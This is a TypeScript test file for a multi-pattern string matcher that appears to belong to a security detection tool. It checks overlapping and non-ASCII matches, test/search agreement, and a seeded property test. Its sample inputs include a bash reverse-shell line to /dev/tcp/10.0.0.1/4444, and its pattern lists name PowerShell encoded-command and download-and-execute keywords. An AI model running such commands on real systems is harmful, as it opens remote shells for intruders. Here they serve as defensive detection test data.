import { test } from 'node:test';
import assert from 'node:assert/strict';
import { seededRandom } from '@vigil/common';
import { buildGramMatcher } from './gram-filter.js';

function naiveFind(patterns: readonly string[], text: string): number[] {
  return patterns.flatMap((p, i) => (p.length && text.includes(p) ? [i] : [])).sort((a, b) => a - b);
}

function found(patterns: readonly string[], text: string): number[] {
  const seen = new Set<number>();
  buildGramMatcher(patterns).search(text, (i) => seen.add(i));
  return [...seen].sort((a, b) => a - b);
}

test('finds overlapping, nested, short and non-ASCII needles', () => {
  const patterns = ['hers', 'she', 'ushers', '/dev/tcp/', 'dev', 'ü', '–c', '', 'tcp/10.0'];
  assert.deepEqual(found(patterns, 'ushers'), [0, 1, 2]);
  assert.deepEqual(found(patterns, 'bash -i >& /dev/tcp/10.0.0.1/4444'), [3, 4, 8]);
  assert.deepEqual(found(patterns, 'cmd –c grüß'), [5, 6]);
  assert.deepEqual(found(patterns, ''), []);
  assert.deepEqual(found(['abc'], 'ab\u2014abc'), [0]);
  // Units that share a low byte with a needle's units (the window is lossy) are still told apart by verification.
  assert.deepEqual(found(['\u0161abc', 'a\u0100bc'], 'aabc\u0061abc a\u0000bc'), []);
  assert.deepEqual(found(['\u0161abc', 'a\u0100bc'], 'x\u0161abc'), [0]);
});

test('test() agrees with search()', () => {
  const matcher = buildGramMatcher(['powershell', '-enc', 'iex', 'downloadstring']);
  assert.equal(matcher.test('c:\\windows\\system32\\cmd.exe /c dir'), false);
  assert.equal(matcher.test('powershell -nop -enc aqbfafga'), true);
  assert.equal(matcher.test('x iex'), true);
});

test('property: same patterns found as a naive includes() scan (seeded, 3,000 cases)', () => {
  const random = seededRandom(4242);
  const alphabet = 'abce-/ \\.é\u0165';
  const word = (min: number, max: number) => Array.from({ length: min + Math.floor(random() * (max - min + 1)) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
  for (let n = 0; n < 3000; n++) {
    const patterns = Array.from({ length: 1 + Math.floor(random() * 40) }, () => word(1, 7));
    const text = word(0, 120);
    const matcher = buildGramMatcher(patterns);
    assert.deepEqual(found(patterns, text), naiveFind(patterns, text), `patterns ${JSON.stringify(patterns)} text ${JSON.stringify(text)}`);
    assert.equal(matcher.test(text), naiveFind(patterns, text).length > 0);
  }
});
